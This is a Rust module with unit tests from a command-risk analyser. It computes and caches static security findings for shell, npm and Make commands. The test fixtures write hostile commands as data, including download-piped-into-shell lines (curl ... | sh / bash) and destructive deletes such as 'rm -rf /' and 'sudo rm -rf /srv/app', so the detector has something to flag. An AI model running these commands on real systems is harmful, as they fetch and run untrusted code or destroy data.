//! Works out the static analyser's findings (`commandtree_risk`) for commands: which text each
//! is analysed from, the ones a stored row (the store's `findings` table) still covers, the
//! rest analysed now, on every core for a big tree, and written back. What a user sees
//! combines them with the model's warning (`annotate`).

use commandtree_core::fs::Fs;
use commandtree_core::{CommandItem, FileHook};
use commandtree_risk::{Finding, effective_warning, effective_warning_for};
use commandtree_store::Store;
use commandtree_store::findings::{Scanned, load, save_all};
use std::collections::HashMap;
use std::path::Path;
use std::sync::Mutex;
use std::sync::atomic::{AtomicUsize, Ordering};

/// What the analyser is given for one command: its own text (`excerpt::command_text`) when
/// the file that defines it (`CommandItem::definition_path`: an included file's targets are
/// read there) can be read, else its command line.
/// The text a command is analysed from and its scan hash; `file` is the text of its
/// [`CommandItem::definition_path`].
pub fn subject_text(item: &CommandItem, file: Option<&str>) -> (String, String) {
    let text = subject(item, file);
    let hash = commandtree_risk::scan_hash(item, &text);
    (text, hash)
}

fn subject(item: &CommandItem, file: Option<&str>) -> String {
    match file {
        Some(content) => commandtree_core::excerpt::command_text(item, content)
            .text
            .into_owned(),
        None => item.command.clone(),
    }
}

/// The findings for `text` (from `subject_text`) of a command of `kind`: commands without a
/// readable file are analysed as their command line.
pub fn analyse_text(item: &CommandItem, text: &str, from_file: bool) -> Vec<Finding> {
    commandtree_risk::analyse_command(item, text, from_file)
}

/// Below this many commands the analysis runs on the caller's thread: a watcher's event or a
/// small workspace does not pay for starting threads.
const PARALLEL_FROM: usize = 64;
/// Files a worker claims at a time: few enough to balance uneven files, enough to keep the
/// shared counter cold.
const BATCH: usize = 8;

/// One command's outcome: its scan hash, its findings, and whether its stored row (by id) is
/// missing or stale, so the findings should be written back.
struct Outcome {
    hash: String,
    findings: Vec<Finding>,
    write: bool,
}

/// The findings of every command in `items`: stored ones whose hash still matches, the rest
/// analysed now. Findings depend only on what is analysed (type and text, the analyser's
/// version is in the hash), so a stored row with the same hash under another id serves too,
/// and equal texts within one call are analysed once. Each file is read once, and on a big
/// tree files are read and analysed on every core. With `store`, new results are written back
/// in one transaction; without (no database, or a read-only listing) nothing is written. A
/// failed write costs only the caching.
pub fn scan(store: Option<&mut Store>, items: &[CommandItem]) -> HashMap<String, Vec<Finding>> {
    let found = scan_prepared(store, items, None);
    items.iter().map(|c| c.id.clone()).zip(found).collect()
}

/// [`scan`], starting from what `prescan` worked out during discovery (only commands it did not
/// see, an included file's, are read here), with the findings in the order of `items`.
fn scan_prepared(
    store: Option<&mut Store>,
    items: &[CommandItem],
    prescan: Option<Prescan>,
) -> Vec<Vec<Finding>> {
    let stored = store
        .as_deref()
        .and_then(|s| load(s).ok())
        .unwrap_or_default();
    let by_hash: HashMap<&str, &[Finding]> = stored
        .values()
        .map(|s| (s.hash.as_str(), s.findings.as_slice()))
        .collect();
    // The hash only finds stored rows and keys written ones: with neither (no database, or a
    // read-only one without findings) it is not worth its hashing of every text.
    let hashing = !stored.is_empty() || store.as_deref().is_some_and(|s| !s.is_read_only());
    let writable = store.as_deref().is_some_and(|s| !s.is_read_only());
    let mut out: Vec<Option<Vec<Finding>>> = vec![None; items.len()];
    let mut fresh: Vec<(&str, Outcome)> = Vec::new();
    let mut memo = Memo::default();
    // A prescan without hashes has nothing to compare with stored rows; it lends its memo.
    if let Some(p) = prescan {
        if !p.hashing && hashing {
            memo = p.memo;
        } else {
            let index: HashMap<&str, usize> = items
                .iter()
                .enumerate()
                .map(|(i, c)| (c.id.as_str(), i))
                .collect();
            // The prescan also saw commands dropped since (a script a task runner lists as its own
            // task): only listed ones are kept and written.
            for (id, hash, findings) in p.done.into_inner().unwrap_or_else(|e| e.into_inner()) {
                let Some(&i) = index.get(id.as_str()) else {
                    continue;
                };
                if writable && stored.get(&id).is_none_or(|s| s.hash != hash) {
                    let o = Outcome {
                        hash,
                        findings: findings.clone(),
                        write: true,
                    };
                    fresh.push((&items[i].id, o));
                }
                out[i] = Some(findings);
            }
            memo = p.memo;
        }
    }
    // Commands grouped by the file that defines them, in first-seen order, so one worker reads
    // each file once.
    let mut groups: Vec<Vec<usize>> = Vec::new();
    let mut group_of: HashMap<&Path, usize> = HashMap::new();
    for (i, item) in items.iter().enumerate() {
        if out[i].is_some() {
            continue;
        }
        let g = *group_of.entry(item.definition_path()).or_insert_with(|| {
            groups.push(Vec::new());
            groups.len() - 1
        });
        groups[g].push(i);
    }
    let ctx = Ctx {
        items,
        hashing,
        groups: &groups,
        stored: &stored,
        by_hash: &by_hash,
        memo,
        next: AtomicUsize::new(0),
    };
    let left: usize = groups.iter().map(Vec::len).sum();
    let threads = if left < PARALLEL_FROM {
        1
    } else {
        std::thread::available_parallelism()
            .map_or(1, |n| n.get())
            .min(groups.len().div_ceil(BATCH))
            .max(1)
    };
    let done = commandtree_core::parallel::on_threads(threads, || ctx.work());
    for (i, o) in done {
        if o.write && writable {
            out[i] = Some(o.findings.clone());
            fresh.push((&items[i].id, o));
        } else {
            out[i] = Some(o.findings);
        }
    }
    // A read-only store (a listing) uses what is cached but never writes.
    if let Some(store) = store
        && !fresh.is_empty()
        && writable
    {
        let rows: Vec<(&str, &str, &[Finding])> = fresh
            .iter()
            .map(|(id, o)| (*id, o.hash.as_str(), o.findings.as_slice()))
            .collect();
        let _ = save_all(store, &rows);
    }
    out.into_iter().map(Option::unwrap_or_default).collect()
}

/// What `scan`'s workers share.
struct Ctx<'a> {
    items: &'a [CommandItem],
    groups: &'a [Vec<usize>],
    hashing: bool,
    stored: &'a HashMap<String, Scanned>,
    by_hash: &'a HashMap<&'a str, &'a [Finding]>,
    /// Findings by (type analysed as, text): equal texts (the same script in many packages,
    /// `"test": "jest"` everywhere) are analysed once.
    memo: Memo,
    next: AtomicUsize,
}

impl Ctx<'_> {
    /// Claims batches of files until none are left; the outcome of each of their commands.
    fn work(&self) -> Vec<(usize, Outcome)> {
        let mut out = Vec::new();
        loop {
            let start = self.next.fetch_add(BATCH, Ordering::Relaxed);
            if start >= self.groups.len() {
                return out;
            }
            let end = (start + BATCH).min(self.groups.len());
            for group in &self.groups[start..end] {
                // Every command of a group is defined in the same file.
                let file = commandtree_core::excerpt::read_definition(&self.items[group[0]]).ok();
                for &i in group {
                    out.push((i, self.one(&self.items[i], file.as_deref())));
                }
            }
        }
    }

    fn one(&self, item: &CommandItem, file: Option<&str>) -> Outcome {
        let (text, hash) = if self.hashing {
            subject_text(item, file)
        } else {
            (subject(item, file), String::new())
        };
        if let Some(s) = self.stored.get(&item.id)
            && s.hash == hash
        {
            return Outcome {
                hash,
                findings: s.findings.clone(),
                write: false,
            };
        }
        if let Some(f) = self.by_hash.get(hash.as_str()) {
            return Outcome {
                hash,
                findings: f.to_vec(),
                write: true,
            };
        }
        let key = commandtree_risk::analysis_key(item, file.is_some());
        let findings = self
            .memo
            .get_or(&key, &text, || analyse_text(item, &text, file.is_some()));
        Outcome {
            hash,
            findings,
            write: true,
        }
    }
}

/// Findings by (`commandtree_risk::analysis_key`, text): equal texts (the same script in many
/// packages, `"test": "jest"` everywhere) are analysed once.
#[derive(Default)]
struct Memo(Mutex<HashMap<String, HashMap<String, Vec<Finding>>>>);

impl Memo {
    fn get_or(
        &self,
        kind: &str,
        text: &str,
        analyse: impl FnOnce() -> Vec<Finding>,
    ) -> Vec<Finding> {
        if let Some(f) = lock(&self.0).get(kind).and_then(|m| m.get(text)) {
            return f.clone();
        }
        // Analysed outside the lock: another thread may do the same text meanwhile, which
        // costs time but gives the same findings.
        let f = analyse();
        lock(&self.0)
            .entry(kind.to_string())
            .or_default()
            .insert(text.to_string(), f.clone());
        f
    }
}

fn lock<T>(m: &Mutex<T>) -> std::sync::MutexGuard<'_, T> {
    m.lock().unwrap_or_else(|p| p.into_inner())
}

/// Findings worked out during discovery, on the walker threads, from the text they had just
/// read ([`FileHook`]), so no file is read a second time (an included file's commands read
/// theirs there, through the walk's own rules). Without a database (nothing cached to compare,
/// nothing to write) each command's warning is set right there; with one, the findings and
/// hashes are kept for [`apply`] to compare with the stored rows.
pub struct Prescan {
    hashing: bool,
    memo: Memo,
    /// With `hashing`: (command id, scan hash, findings).
    done: Mutex<Vec<(String, String, Vec<Finding>)>>,
}

impl Prescan {
    /// `hashing`: whether the results will meet a database (stored rows to compare, new rows to
    /// write); without one the warnings are set during discovery.
    pub fn new(hashing: bool) -> Prescan {
        Prescan {
            hashing,
            memo: Memo::default(),
            done: Mutex::new(Vec::new()),
        }
    }
}

impl FileHook for Prescan {
    fn parsed(&self, path: &Path, text: &str, commands: &mut [CommandItem], fs: &dyn Fs) {
        let excerpts = commandtree_core::excerpt::Excerpts::new(text);
        // Files other commands are defined in (includes), read once each through `fs`.
        let mut others: HashMap<std::path::PathBuf, Option<String>> = HashMap::new();
        let mut found = Vec::new();
        for item in commands.iter_mut() {
            let def = item.definition_path();
            let subject = if def.as_os_str() == path.as_os_str() {
                Some(excerpts.of(item).text)
            } else {
                let content = others
                    .entry(def.to_path_buf())
                    .or_insert_with(|| fs.read(def));
                content.as_deref().map(|c| {
                    std::borrow::Cow::Owned(
                        commandtree_core::excerpt::command_text(item, c)
                            .text
                            .into_owned(),
                    )
                })
            };
            // A defining file that cannot be read: the command line is all there is, as in
            // `scan`.
            let from_file = subject.is_some();
            let subject = subject.unwrap_or(std::borrow::Cow::Borrowed(item.command.as_str()));
            let key = commandtree_risk::analysis_key(item, from_file);
            // The files a script sources are read through the walk's `fs` too.
            let read = |f: &commandtree_core::SourcedFile| fs.read(&f.path);
            let findings = self.memo.get_or(&key, &subject, || {
                commandtree_risk::analyse_command_with(item, &subject, from_file, &read)
            });
            if self.hashing {
                let hash = commandtree_risk::scan_hash(item, &subject);
                found.push((item.id.clone(), hash, findings));
            } else {
                // No database, so no model warning to combine with.
                item.security_warning = effective_warning(None, None, &findings);
            }
        }
        if !found.is_empty() {
            lock(&self.done).append(&mut found);
        }
    }
}

/// Sets every command's security warning as [`scan`] and [`annotate`] would, starting from
/// `prescan` (the discovery that gave `items` ran with it as its hook) when there is one.
/// `store` must be the one opened after that discovery: a prescan made without hashes cannot
/// be used with a database (see [`Prescan::new`]), so then everything is scanned here.
pub fn apply(store: Option<&mut Store>, items: &mut [CommandItem], prescan: Option<Prescan>) {
    match (prescan, store) {
        // The warnings were set during discovery.
        (Some(p), None) if !p.hashing => {}
        (Some(p), Some(store)) if !p.hashing => {
            // A database turned up after discovery began: the warnings set then assumed none.
            // Start again from what its rows say.
            for c in items.iter_mut() {
                c.security_warning = None;
            }
            let _ = store.enrich(items);
            let found = scan_prepared(Some(store), items, Some(p));
            annotate_in_order(items, found);
        }
        (p, store) => {
            let found = scan_prepared(store, items, p);
            annotate_in_order(items, found);
        }
    }
}

/// [`annotate`] with findings in the order of `items` (as [`scan_prepared`] gives them).
pub fn annotate_in_order(items: &mut [CommandItem], findings: Vec<Vec<Finding>>) {
    for (item, f) in items.iter_mut().zip(findings) {
        item.security_warning =
            effective_warning_for(&item.kind, item.security_warning.as_deref(), None, &f);
    }
}

/// Sets each command's `security_warning` to what a user should see: its findings, then the
/// model's warning already filled in by `Store::enrich` (when it is not a placeholder).
pub fn annotate(items: &mut [CommandItem], findings: &HashMap<String, Vec<Finding>>) {
    for item in items {
        let f = findings.get(&item.id).map(Vec::as_slice).unwrap_or(&[]);
        item.security_warning =
            effective_warning_for(&item.kind, item.security_warning.as_deref(), None, f);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use commandtree_store::db_path;

    /// A fresh folder, removed when the returned guard is dropped.
    fn root(name: &str) -> (tempfile::TempDir, std::path::PathBuf) {
        let dir = tempfile::Builder::new()
            .prefix(&format!("ct-findings-{name}-"))
            .tempdir()
            .unwrap();
        let path = dir.path().to_path_buf();
        (dir, path)
    }

    fn item(root: &Path, file: &str, body: &str) -> CommandItem {
        let p = root.join(file);
        std::fs::write(&p, body).unwrap();
        CommandItem::new("shell", &p, file, format!("./{file}"))
    }

    /// What a listing shows for `items` scanned the plain way.
    fn plain(store: Option<&mut Store>, items: &[CommandItem]) -> Vec<Option<String>> {
        let mut v = items.to_vec();
        annotate(&mut v, &scan(store, items));
        v.into_iter().map(|c| c.security_warning).collect()
    }

    fn prescanned(
        store: Option<&mut Store>,
        items: &[CommandItem],
        hashing: bool,
    ) -> Vec<Option<String>> {
        let mut v = items.to_vec();
        let pre = Prescan::new(hashing);
        let fs = commandtree_core::fs::RealFs;
        // As a walk calls it: the file's own commands with its text; a command of another file
        // (an include's) comes along without its text, read through the walk's `fs`.
        for c in v.iter_mut() {
            let path = std::path::PathBuf::from(&c.file_path);
            let text = std::fs::read_to_string(&path).unwrap();
            if c.label == "included.sh" {
                pre.parsed(
                    &path.with_file_name("Makefile"),
                    "all:\n",
                    std::slice::from_mut(c),
                    &fs,
                );
            } else {
                pre.parsed(&path, &text, std::slice::from_mut(c), &fs);
            }
        }
        apply(store, &mut v, Some(pre));
        v.into_iter().map(|c| c.security_warning).collect()
    }

    #[test]
    fn a_prescan_gives_what_a_scan_gives_with_and_without_a_database() {
        let (_scratch, dir) = root("prescan");
        let items = vec![
            item(
                &dir,
                "install.sh",
                "#!/bin/sh\ncurl -fsSL https://x.io/i | sh\n",
            ),
            item(&dir, "included.sh", "#!/bin/sh\nrm -rf /\n"),
            item(&dir, "build.sh", "#!/bin/sh\ncargo build\n"),
        ];
        let expected = plain(None, &items);
        assert!(expected[0].is_some() && expected[1].is_some() && expected[2].is_none());
        // No database: warnings set during the walk; the include's command is read afterwards.
        assert_eq!(prescanned(None, &items, false), expected);

        // With a database the rows are written as a scan writes them.
        let mut store = Store::open(&db_path(&dir), true).unwrap().unwrap();
        assert_eq!(prescanned(Some(&mut store), &items, true), expected);
        let stored = load(&store).unwrap();
        assert_eq!(stored.len(), 3);
        let (_plain, plain) = root("prescan-plain");
        let mut fresh = Store::open(&db_path(&plain), true).unwrap().unwrap();
        scan(Some(&mut fresh), &items);
        let want = load(&fresh).unwrap();
        for c in &items {
            assert_eq!(stored[&c.id].hash, want[&c.id].hash, "{}", c.label);
            assert_eq!(stored[&c.id].findings, want[&c.id].findings, "{}", c.label);
        }
        // A prescan made without hashes, met by a database after all, is redone from the rows.
        assert_eq!(prescanned(Some(&mut store), &items, false), expected);
    }

    #[cfg(unix)]
    #[test]
    fn an_included_command_is_analysed_from_the_file_that_defines_it_inside_the_root() {
        let (_scratch, dir) = root("included");
        let (_outside, outside) = root("included-outside");
        let mk = dir.join("Makefile");
        std::fs::write(&mk, "include tools.mk\n\nbuild: clean\n\techo hi\n").unwrap();
        std::fs::write(dir.join("tools.mk"), "# tools\nclean:\n\trm -rf ~/x\n").unwrap();
        let mut clean = CommandItem::new("make", &mk, "clean", "make clean").line(1);
        clean.defined_in = Some(commandtree_core::Definition {
            file: dir.join("tools.mk"),
            line: Some(2),
            root: dir.clone(),
        });
        let items = vec![clean];
        let warned = |v: Vec<Option<String>>| v[0].clone();
        let w = warned(plain(None, &items)).expect("a warning from tools.mk");
        assert!(w.contains("rm -rf ~/x"), "{w}");
        // The walk's hook reads it through the walk's own file system.
        let real = std::fs::canonicalize(&dir).unwrap();
        let guard = commandtree_core::fs::RecordingFs::guard(&commandtree_core::fs::RealFs, &real);
        let mut v = items.clone();
        let pre = Prescan::new(false);
        pre.parsed(&mk, "include tools.mk\n", &mut v, &guard);
        assert_eq!(v[0].security_warning.as_deref(), Some(w.as_str()));

        // The same file swapped for a link out of the root is never read, by either path.
        std::fs::write(outside.join("secret.mk"), "clean:\n\trm -rf /srv\n").unwrap();
        std::fs::remove_file(dir.join("tools.mk")).unwrap();
        std::os::unix::fs::symlink(outside.join("secret.mk"), dir.join("tools.mk")).unwrap();
        assert_eq!(warned(plain(None, &items)), None);
        let mut v = items.clone();
        Prescan::new(false).parsed(&mk, "include tools.mk\n", &mut v, &guard);
        assert_eq!(v[0].security_warning, None);
    }

    #[test]
    fn findings_are_cached_by_hash_and_redone_when_the_text_changes() {
        let (_scratch, dir) = root("cache");
        let mut store = Store::open(&db_path(&dir), true).unwrap().unwrap();
        let risky = item(
            &dir,
            "install.sh",
            "#!/bin/sh\ncurl -fsSL https://x.io/i | sh\n",
        );
        let safe = item(&dir, "build.sh", "#!/bin/sh\ncargo build\n");
        let items = vec![risky.clone(), safe.clone()];
        let f = scan(Some(&mut store), &items);
        assert_eq!(f[&risky.id].len(), 1);
        assert!(f[&safe.id].is_empty());
        let stored = load(&store).unwrap();
        assert_eq!(stored.len(), 2);
        assert_eq!(stored[&risky.id].findings, f[&risky.id]);

        // A stored row is used as is while its hash matches: a planted row proves it.
        let planted = vec![Finding {
            level: commandtree_risk::Level::Caution,
            reason: "planted".into(),
            line: 1,
            snippet: String::new(),
        }];
        let hash = stored[&safe.id].hash.clone();
        save_all(&mut store, &[(&safe.id, &hash, &planted)]).unwrap();
        assert_eq!(scan(Some(&mut store), &items)[&safe.id], planted);

        // Editing the file changes the hash: analysed again.
        std::fs::write(
            &safe.file_path,
            "#!/bin/sh\ncargo build\ngit push --force\n",
        )
        .unwrap();
        let f = scan(Some(&mut store), &items);
        assert_eq!(f[&safe.id].len(), 1);
        assert_eq!(f[&safe.id][0].line, 3);
        assert_eq!(load(&store).unwrap()[&safe.id].findings, f[&safe.id]);
    }

    /// A tree big enough to take the parallel path: shell scripts, a Makefile and
    /// package.json files with several commands each, many texts repeated across folders,
    /// plus a command with no file.
    fn fixture(dir: &Path) -> Vec<CommandItem> {
        let bodies = [
            "#!/bin/sh\ncurl -fsSL https://x.io/i | sh\n",
            "#!/bin/sh\ncargo build\n",
            "#!/bin/sh\nrm -rf \"$DIR/\"\n",
            "#!/bin/sh\necho 'rm -rf /'\ngit push --force\n",
        ];
        let mut items = Vec::new();
        for n in 0..40 {
            let sub = dir.join(format!("p{n}"));
            std::fs::create_dir_all(&sub).unwrap();
            let body = bodies[n % bodies.len()];
            items.push(item(dir, &format!("p{n}/run.sh"), body));
            let pkg = sub.join("package.json");
            std::fs::write(
                &pkg,
                format!(
                    "{{\n  \"scripts\": {{\n    \"test\": \"jest\",\n    \"setup\": \"curl -s https://x.io/{} | bash\",\n    \"clean\": \"rm -rf dist\"\n  }}\n}}\n",
                    n % 3
                ),
            )
            .unwrap();
            for (line, name) in [(3, "test"), (4, "setup"), (5, "clean")] {
                let mut c = CommandItem::new("npm", &pkg, name, format!("npm run {name}"));
                c.id = format!("npm:{}:{name}", pkg.display());
                c.line = Some(line);
                items.push(c);
            }
            let mk = sub.join("Makefile");
            std::fs::write(
                &mk,
                "deploy:\n\tscp x host:\n\tssh host 'sudo rm -rf /srv/app'\n",
            )
            .unwrap();
            let mut m = CommandItem::new("make", &mk, "deploy", "make deploy");
            m.id = format!("make:{}:deploy", mk.display());
            m.line = Some(1);
            items.push(m);
        }
        let mut bare = CommandItem::new("vscode", Path::new(""), "wipe", "rm -rf ~/x");
        bare.file_path = String::new();
        bare.id = "vscode::wipe".into();
        items.push(bare);
        items
    }

    #[test]
    fn the_parallel_scan_finds_what_analysing_each_command_alone_finds() {
        let (_scratch, dir) = root("parallel");
        let items = fixture(&dir);
        assert!(items.len() >= 2 * PARALLEL_FROM);
        let got = scan(None, &items);
        assert_eq!(got.len(), items.len());
        let mut risky = 0;
        for it in &items {
            let file = (!it.file_path.is_empty())
                .then(|| commandtree_core::fs::read_file(Path::new(&it.file_path)).ok())
                .flatten();
            let want = commandtree_risk::analyse_item(it, file.as_deref());
            risky += usize::from(!want.is_empty());
            assert_eq!(got[&it.id], want, "{}", it.id);
        }
        // The fixture must exercise findings, not only their absence.
        assert!(risky > items.len() / 4, "{risky} of {}", items.len());

        // What a user sees is the same through a database that fills and then serves the cache.
        let mut store = Store::open(&db_path(&dir), true).unwrap().unwrap();
        assert_eq!(scan(Some(&mut store), &items), got);
        assert_eq!(load(&store).unwrap().len(), items.len());
        assert_eq!(scan(Some(&mut store), &items), got);
        let ro = Store::open_read_only(&db_path(&dir)).unwrap().unwrap();
        let mut ro = ro;
        assert_eq!(scan(Some(&mut ro), &items), got);
        let (mut a, mut b) = (items.clone(), items.clone());
        annotate(&mut a, &got);
        annotate(&mut b, &scan(None, &items));
        let warnings = |v: &[CommandItem]| {
            v.iter()
                .map(|c| c.security_warning.clone())
                .collect::<Vec<_>>()
        };
        assert_eq!(warnings(&a), warnings(&b));
    }

    #[test]
    fn a_stored_row_with_the_same_hash_serves_another_command_and_is_copied_to_it() {
        let (_scratch, dir) = root("byhash");
        let mut store = Store::open(&db_path(&dir), true).unwrap().unwrap();
        let mut items = Vec::new();
        for n in 0..2 {
            let sub = dir.join(format!("p{n}"));
            std::fs::create_dir_all(&sub).unwrap();
            let pkg = sub.join("package.json");
            std::fs::write(
                &pkg,
                "{\n  \"scripts\": {\n    \"test\": \"jest\"\n  }\n}\n",
            )
            .unwrap();
            let mut c = CommandItem::new("npm", &pkg, "test", "npm run test");
            c.id = format!("npm:{}:test", pkg.display());
            c.line = Some(3);
            items.push(c);
        }
        let file = commandtree_core::fs::read_file(Path::new(&items[0].file_path)).unwrap();
        let (_, hash) = subject_text(&items[0], Some(&file));
        assert_eq!(subject_text(&items[1], Some(&file)).1, hash);
        let planted = vec![Finding {
            level: commandtree_risk::Level::Caution,
            reason: "planted".into(),
            line: 1,
            snippet: String::new(),
        }];
        save_all(&mut store, &[(&items[0].id, &hash, &planted)]).unwrap();
        let f = scan(Some(&mut store), &items);
        assert_eq!(f[&items[1].id], planted);
        assert_eq!(load(&store).unwrap()[&items[1].id].findings, planted);
    }

    #[test]
    fn annotate_combines_findings_with_the_stored_model_warning() {
        let (_scratch, dir) = root("annotate");
        let risky = item(
            &dir,
            "install.sh",
            "#!/bin/sh\ncurl -fsSL https://x.io/i | sh\n",
        );
        let noted = item(&dir, "upload.sh", "#!/bin/sh\n./upload-dump\n");
        let placeholder = item(&dir, "lint.sh", "#!/bin/sh\neslint .\n");
        let mut items = vec![risky, noted, placeholder];
        items[1].security_warning = Some("Uploads the database dump".into());
        items[2].security_warning = Some("Not a security warning".into());
        let f = scan(None, &items);
        annotate(&mut items, &f);
        assert!(
            items[0]
                .security_warning
                .as_deref()
                .is_some_and(|w| w.starts_with("Danger: pipes a download (curl) into sh (line 2")),
            "{:?}",
            items[0].security_warning
        );
        assert_eq!(
            items[1].security_warning.as_deref(),
            Some("Uploads the database dump")
        );
        assert_eq!(items[2].security_warning, None);
        // No database was asked for, none was made.
        assert!(!db_path(&dir).exists());
    }
}
